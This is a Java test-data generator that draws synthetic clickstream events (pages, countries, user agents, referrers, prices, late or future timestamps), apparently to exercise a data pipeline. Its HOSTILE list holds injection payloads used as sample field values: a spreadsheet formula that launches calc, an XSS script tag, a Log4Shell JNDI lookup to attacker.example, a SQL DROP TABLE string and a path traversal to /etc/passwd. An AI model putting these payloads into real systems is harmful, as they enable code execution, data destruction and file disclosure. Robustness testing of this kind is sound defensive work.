package dev.sluice.examples.clickstream;

import java.math.BigDecimal;
import java.time.Duration;
import java.util.List;
import java.util.SplittableRandom;

/** Draws the content of clicks; the event time is added when they are sent. */
final class ClickDraw {
  /** The countries the dataset's rule knows. */
  static final List<String> COUNTRIES =
      List.of("BR", "DE", "ES", "FR", "GB", "IN", "JP", "PL", "US", "ZA");

  private static final List<String> UNKNOWN_COUNTRIES = List.of("XX", "Atlantis", "de", "");
  private static final List<String> DEVICES = List.of("desktop", "mobile", "tablet");
  private static final List<String> USER_AGENTS =
      List.of(
          "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Safari/604.1",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/128.0.0.0");
  private static final List<String> BOT_AGENTS =
      List.of("Googlebot/2.1 (+http://www.google.com/bot.html)", "bingbot/2.0", "pricebot");
  private static final List<String> REFERRERS =
      List.of("https://example.org/", "https://例え.jp/検索?q=靴", "https://news.example/a?b=c&d=e");
  private static final List<String> HOSTILE =
      List.of(
          "=CMD()|' /C calc'!A0",
          "<script>alert(1)</script>",
          "${jndi:ldap://attacker.example/x}",
          "'; DROP TABLE clicks; --",
          "\u001b[31mred\u001b[0m",
          "one\r\ntwo",
          "../../etc/passwd",
          "{country}:{window_start}",
          "%NULL",
          "a:b*c?[d]",
          "\\",
          "");
  private static final int USERS = 5_000;
  private static final int ITEMS = 30;
  private static final int DEAREST_CENTS = 50_000;

  private final SplittableRandom random;

  ClickDraw(SplittableRandom random) {
    this.random = random;
  }

  /**
   * A click of that kind. Kinds that are broken as bytes are broken later, by {@link ClickBytes}.
   */
  Click click(ClickKind kind) {
    String hostile = kind == ClickKind.HOSTILE_TEXT ? oneOf(HOSTILE) : null;
    return new Click(
        String.format("%016x%016x", random.nextLong(), random.nextLong()),
        0,
        "user-" + random.nextInt(USERS),
        hostile == null ? page() : hostile,
        kind == ClickKind.UNKNOWN_COUNTRY ? oneOf(UNKNOWN_COUNTRIES) : oneOf(COUNTRIES),
        kind == ClickKind.NEGATIVE_PRICE ? price().negate() : price(),
        1 + random.nextInt(5),
        random.nextInt(5) == 0 ? null : oneOf(DEVICES),
        userAgent(kind),
        hostile == null ? referrer() : hostile);
  }

  /** How far from the moment of sending the click happened; negative is the past. */
  Duration shift(ClickKind kind) {
    return switch (kind) {
      case LATE -> Duration.ofSeconds(-between(11 * 60, 60 * 60));
      case DAYS_LATE -> Duration.ofSeconds(-between(24 * 3600, 72 * 3600));
      case FUTURE -> Duration.ofSeconds(between(6 * 60, 60 * 60));
      default -> Duration.ZERO;
    };
  }

  BigDecimal price() {
    return BigDecimal.valueOf(1 + random.nextInt(DEAREST_CENTS), 2);
  }

  private String page() {
    int popular = Math.min(random.nextInt(ITEMS), random.nextInt(ITEMS));
    return switch (random.nextInt(10)) {
      case 0 -> "/";
      case 1 -> "/Cart";
      case 2 -> "/search?q=Größe+42&sort=price";
      default -> "/Shop/Item-" + popular;
    };
  }

  private String userAgent(ClickKind kind) {
    if (kind == ClickKind.BOT) {
      return oneOf(BOT_AGENTS);
    }
    return random.nextInt(10) == 0 ? null : oneOf(USER_AGENTS);
  }

  private String referrer() {
    return random.nextBoolean() ? null : oneOf(REFERRERS);
  }

  private long between(long from, long to) {
    return from + random.nextLong(to - from);
  }

  private String oneOf(List<String> texts) {
    return texts.get(random.nextInt(texts.size()));
  }
}
